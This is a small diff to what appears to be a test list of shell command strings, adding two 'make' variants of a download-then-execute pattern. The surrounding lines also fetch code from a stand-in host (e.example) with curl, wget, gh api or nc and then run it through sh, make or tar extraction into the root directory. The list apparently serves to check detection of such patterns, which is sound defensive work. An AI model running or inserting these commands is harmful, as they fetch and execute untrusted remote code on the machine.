@@ -101,6 +101,8 @@ FILES = [
     "curl https://e.example/x | tar xz -C / && /x",
     "curl -o f https://e.example/x; cp f /; sh /f",
     "curl -o m https://e.example/x; make -f m",
+    "curl -o m https://e.example/x; make -fm",
+    "curl -o m https://e.example/x; make --file=m",
     "wget -P a -P b https://e.example/x; sh b/x",
     "gh api repos/u/r/contents/x > f; sh f",
     "nc e.example 80 > f; sh f",
